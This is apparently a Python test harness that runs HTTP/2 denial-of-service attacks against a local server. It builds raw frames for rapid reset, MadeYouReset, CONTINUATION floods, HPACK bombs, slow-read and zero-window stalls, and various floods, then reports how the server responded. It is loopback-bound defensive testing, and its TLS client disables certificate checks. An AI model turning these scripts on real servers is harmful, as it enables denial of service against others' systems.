"""HTTP/2 attackers in a process of their own: `python -m tests.kit.h2_attackers KIND PORT [--identity PEM]`.

Each kind is a script for one connection; a handful of connections play it side by side, and begin again whenever they
are shown the door. With an identity they speak TLS and agree on h2; without, they begin with the preface. At the end it
prints what it saw as one line of JSON: codes of GOAWAY and of RST_STREAM, status codes, how connections ended. Bounded
in connections and in time, and only ever against loopback. It shares no code with the sidecar: sockets, ssl, struct,
and hpack for what is answered.
"""

from __future__ import annotations

import argparse
import json
import os
import select
import socket
import ssl
import struct
import sys
import threading
import time
from collections import Counter
from collections.abc import Callable, Iterator
from contextlib import suppress
from itertools import count
from pathlib import Path

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, _, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, END_HEADERS = 0x1, 0x4
ENDLESS = 2**62
PAUSE = b""  # nothing to send for a tenth of a second
Script = Iterator[bytes]


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack("!HBBBL", len(payload) >> 8, len(payload) & 0xFF, kind, flags, stream) + payload


def word(value: int) -> bytes:
    return struct.pack("!L", value)


def field(name: bytes, value: bytes) -> bytes:
    """A literal without indexing, of less than 127 bytes each."""
    return b"\x00" + bytes((len(name),)) + name + bytes((len(value),)) + value


def head(method: bytes, path: bytes) -> bytes:
    where = field(b":scheme", b"https") + field(b":authority", b"app") + field(b":path", path)
    return field(b":method", method) + where


GET, POST, LARGE = head(b"GET", b"/h2-attack"), head(b"POST", b"/h2-attack"), head(b"GET", b"/bytes/400000")
HELLO = PREFACE + frame(SETTINGS, 0, 0)


def ask(stream: int, block: bytes = GET, *, end: bool = True) -> bytes:
    return frame(HEADERS, END_HEADERS | (END_STREAM if end else 0), stream, block)


def streams() -> Iterator[int]:
    return iter(range(1, ENDLESS, 2))


def repeated(piece: bytes) -> Callable[[], Script]:
    """Greet, then the same for ever, in large helpings."""

    def script() -> Script:
        yield HELLO
        while True:
            yield piece * max(1, 8192 // len(piece))

    return script


def rapid_reset() -> Script:
    yield HELLO
    for stream in streams():
        yield ask(stream) + frame(RST_STREAM, 0, stream, word(8))


def late_reset() -> Script:
    """Each at an age at which it is no rapid one."""
    yield HELLO
    for first in range(1, ENDLESS, 180):
        mine = range(first, first + 180, 2)
        yield b"".join(ask(stream, POST, end=False) for stream in mine)
        yield from [PAUSE] * 4
        yield b"".join(frame(RST_STREAM, 0, stream, word(8)) for stream in mine)


def made_you_reset() -> Script:
    yield HELLO
    for stream in streams():
        yield ask(stream, POST, end=False) + frame(WINDOW_UPDATE, 0, stream, word(0))


def continuation() -> Script:
    yield HELLO + frame(HEADERS, END_STREAM, 1, GET)
    while True:
        yield frame(CONTINUATION, 0, 1, field(b"x", b"y" * 100) * 100)


def empty_frames() -> Script:
    yield HELLO + ask(1, POST, end=False)
    while True:
        yield frame(DATA, 0, 1) * 500


def priority() -> Script:
    yield HELLO
    for stream in streams():
        yield frame(PRIORITY, 0, stream, bytes(5)) * 100


def zero_window() -> Script:
    yield PREFACE + frame(SETTINGS, 0, 0, struct.pack("!HL", 4, 0))
    yield b"".join(ask(stream, LARGE) for stream in range(1, 200, 2))
    while True:
        yield PAUSE


def slow_read() -> Script:
    yield PREFACE + frame(SETTINGS, 0, 0, struct.pack("!HL", 4, 10))
    yield b"".join(ask(stream, LARGE) for stream in range(1, 100, 2))
    for turn in count():
        yield PAUSE
        if turn % 2:
            yield b"".join(frame(WINDOW_UPDATE, 0, stream, word(10)) for stream in range(1, 100, 2))


def slow_body() -> Script:
    long = POST + field(b"content-length", b"1000000")
    yield HELLO + b"".join(ask(stream, long, end=False) for stream in range(1, 100, 2))
    for turn in count():
        yield PAUSE
        if turn % 10 == 9:
            yield b"".join(frame(DATA, 0, stream, b"x") for stream in range(1, 100, 2))


def hpack_bomb() -> Script:
    large = b"\x40\x01x\x7f" + b"\xa1\x1e" + b"z" * 4000  # x: 4,000 bytes, kept as entry 62
    yield HELLO
    for stream in streams():
        yield ask(stream, GET + large + b"\xbe" * 12_000)


def many_headers() -> Script:
    yield HELLO
    for stream in streams():
        yield ask(stream, GET + field(b"x", b"y") * 150)


def large_head() -> Script:
    yield HELLO
    for stream in streams():
        yield frame(HEADERS, END_STREAM, stream, GET + field(b"x", b"y" * 100) * 120) + b"".join(
            frame(CONTINUATION, END_HEADERS if last else 0, stream, field(b"x", b"y" * 100) * 120)
            for last in (False, False, True)
        )


def too_many_streams() -> Script:
    yield HELLO
    for stream in streams():
        yield ask(stream, POST, end=False)


def half_preface() -> Script:
    yield PREFACE[:12]
    while True:
        yield PAUSE


def half_head() -> Script:
    yield HELLO + frame(HEADERS, END_STREAM, 1, GET)
    while True:
        yield PAUSE


def idle_stream() -> Script:
    yield HELLO + frame(DATA, 0, 7, b"x")
    while True:
        yield PAUSE


def closed_stream() -> Script:
    yield HELLO + ask(1)
    for _ in range(3):
        yield PAUSE
    yield frame(DATA, 0, 1, b"x")
    while True:
        yield PAUSE


KINDS: dict[str, Callable[[], Script]] = {
    "rapid_reset": rapid_reset,
    "late_reset": late_reset,
    "made_you_reset": made_you_reset,
    "continuation": continuation,
    "ping": repeated(frame(PING, 0, 0, bytes(8))),
    "settings": repeated(frame(SETTINGS, 0, 0)),
    "priority": priority,
    "window_update": repeated(frame(WINDOW_UPDATE, 0, 0, word(1))),
    "empty_frames": empty_frames,
    "unknown_frames": repeated(frame(99, 0, 0, b"x")),
    "zero_window": zero_window,
    "slow_read": slow_read,
    "slow_body": slow_body,
    "hpack_bomb": hpack_bomb,
    "many_headers": many_headers,
    "large_head": large_head,
    "too_many_streams": too_many_streams,
    "half_preface": half_preface,
    "half_head": half_head,
    "idle_stream": idle_stream,
    "closed_stream": closed_stream,
    "window_overflow": repeated(frame(WINDOW_UPDATE, 0, 0, word(2**31 - 1))),
}
CALM_SECONDS = 0.02  # between two connections of one attacker: the attack is on HTTP/2, not on the handshake


class Crew:
    """Some connections, each in a thread, and what they saw."""

    def __init__(self, kind: str, port: int, identity: Path | None, until: float) -> None:
        self._script, self._port, self._until = KINDS[kind], port, until
        self._context = context_of(identity) if identity is not None else None
        self._lock = threading.Lock()
        self.opened = 0
        self.goaways: Counter[str] = Counter()
        self.resets: Counter[str] = Counter()
        self.statuses: Counter[str] = Counter()
        self.ends: Counter[str] = Counter()

    def run(self) -> None:
        """Play the script again and again."""
        while time.monotonic() < self._until:
            with suppress(OSError):
                end = self._once()
                with self._lock:
                    self.ends[end] += 1
            time.sleep(CALM_SECONDS)

    def _once(self) -> str:
        plain = socket.create_connection(("127.0.0.1", self._port), timeout=5)
        sock = self._context.wrap_socket(plain) if self._context is not None else plain
        self.opened += 1
        sock.settimeout(2)
        have, decoder = b"", hpack.Decoder()
        try:
            for piece in self._script():
                if piece:
                    sock.sendall(piece)
                if time.monotonic() >= self._until:
                    return "time"
                while self._readable(sock, 0.0 if piece else 0.1):
                    data = sock.recv(65_536)
                    if not data:
                        return "closed"
                    have = self._note(have + data, decoder)
        except TimeoutError:
            return "stuck"
        except (ConnectionError, ssl.SSLError):
            while True:  # what it had said before it closed
                try:
                    data = sock.recv(65_536)
                except OSError:
                    return "reset"
                if not data:
                    return "reset"
                have = self._note(have + data, decoder)
        finally:
            sock.close()
        return "done"

    def _readable(self, sock: socket.socket, seconds: float) -> bool:
        if isinstance(sock, ssl.SSLSocket) and sock.pending():
            return True
        return bool(select.select([sock], [], [], seconds)[0])

    def _note(self, have: bytes, decoder: hpack.Decoder) -> bytes:
        while len(have) >= 9 and len(have) >= 9 + (size := int.from_bytes(have[:3], "big")):
            kind, payload, have = have[3], have[9 : 9 + size], have[9 + size :]
            with self._lock:
                if kind == GOAWAY:
                    self.goaways[str(int.from_bytes(payload[4:8], "big"))] += 1
                elif kind == RST_STREAM:
                    self.resets[str(int.from_bytes(payload, "big"))] += 1
                elif kind == HEADERS:
                    status = dict(decoder.decode(payload)).get(":status")
                    self.statuses.update([status] if status else [])
        return have


def context_of(identity: Path) -> ssl.SSLContext:
    """Shows what is in this PEM file, checks nobody, and wants h2."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.load_cert_chain(identity)
    context.set_alpn_protocols(["h2"])
    return context


def main() -> int:
    """One attack, as the command line says."""
    parser = argparse.ArgumentParser()
    parser.add_argument("kind", choices=KINDS)
    parser.add_argument("port", type=int)
    parser.add_argument("--seconds", type=float, default=2.0)
    parser.add_argument("--count", type=int, default=4, help="connections that it keeps up")
    parser.add_argument("--most", type=int, help="not used")
    parser.add_argument("--identity", type=Path)
    parser.add_argument("--core", type=int, help="stay on this processor")
    chosen = parser.parse_args()
    if chosen.core is not None:
        with suppress(OSError):
            os.sched_setaffinity(0, {chosen.core})
    crew = Crew(chosen.kind, chosen.port, chosen.identity, time.monotonic() + chosen.seconds)
    threads = [threading.Thread(target=crew.run) for _ in range(chosen.count)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    print(json.dumps({"kind": chosen.kind, "opened": crew.opened, "goaways": crew.goaways, "resets": crew.resets,
                      "statuses": crew.statuses,
                      "ends": crew.ends, "seconds": chosen.seconds}))  # fmt: skip
    return 0


if __name__ == "__main__":
    sys.exit(main())
